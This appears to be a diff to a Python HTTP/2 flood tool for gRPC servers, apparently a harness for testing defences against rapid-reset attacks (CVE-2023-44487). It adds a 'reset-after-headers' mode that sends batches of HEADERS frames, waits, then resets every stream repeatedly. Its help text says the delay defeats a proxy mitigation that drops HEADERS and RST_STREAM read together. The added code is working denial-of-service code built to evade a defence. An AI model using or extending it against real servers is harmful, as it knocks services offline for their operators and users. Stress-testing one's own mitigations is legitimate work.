@@ -13,6 +13,11 @@ is replaced by a new one until the time is up, as an attacker would):
                     over (CVE-2023-44487)
   rapid-reset-data  the same with a 5-byte DATA frame (a gRPC message prefix)
                     between the HEADERS and the RST_STREAM
+  reset-after-headers --batch streams of HEADERS only (no body), then,
+                    --reset-after-ms later, RST_STREAM on each; over and over
+                    (a proxy that forwards a request before its body passes
+                    these on: the pause defeats dropping HEADERS and RST_STREAM
+                    read together)
   reset-after-body  --batch streams of HEADERS + a whole SayHello request
                     (END_STREAM), then, --reset-after-ms later, RST_STREAM on
                     each; over and over
@@ -74,7 +79,7 @@ MAX_SOURCES = 64
 PREFIX_ONLY = PROBE_MESSAGE[:5]
 # A slow body: the prefix of a 1 MiB message, then its bytes, one per frame.
 SLOW_PREFIX = b"\x00" + struct.pack(">I", 1 << 20)
-ATTACKS = ["rapid-reset", "rapid-reset-data", "reset-after-body", "short-connections", "slow-body", "ping",
+ATTACKS = ["rapid-reset", "rapid-reset-data", "reset-after-headers", "reset-after-body", "short-connections", "slow-body", "ping",
            "settings", "none"]
 
 
@@ -244,6 +249,14 @@ def flood_connection(attack: str, host: str, port: int, source: str, seconds: fl
                         stream += 2
                     payload = b"".join(chunk)
                     count = len(chunk)
+                elif attack == "reset-after-headers":
+                    streams = list(range(stream, stream + 2 * pacer.take(deadline), 2))
+                    stream = streams[-1] + 2
+                    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams))
+                    seen["frames_sent"] += len(streams)
+                    time.sleep(opts["reset_after_ms"] / 1000)  # the delay this attack is about
+                    payload = b"".join(frame(RST_STREAM, 0, s, rst) for s in streams)
+                    count = len(streams)
                 elif attack == "reset-after-body":
                     streams = list(range(stream, stream + 2 * pacer.take(deadline), 2))
                     stream = streams[-1] + 2
@@ -524,7 +537,7 @@ def main() -> int:
         ap.error(f"--seconds and --after must be 0..{MAX_SECONDS}")
     if not 0 <= args.rate <= 1_000_000 or not 0 <= args.reset_after_ms <= 10_000 or not 1 <= args.dribble_ms <= 10_000:
         ap.error("--rate 0..1e6, --reset-after-ms 0..10000, --dribble-ms 1..10000")
-    batch = args.batch or (50 if args.attack == "reset-after-body" else 100)
+    batch = args.batch or (50 if args.attack in ("reset-after-body", "reset-after-headers") else 100)
     per_connection = args.streams_per_connection or (90 if args.attack == "slow-body" else 5)
     if not 1 <= batch <= 1000 or not 1 <= per_connection <= 1000:
         ap.error("--batch and --streams-per-connection must be 1..1000")
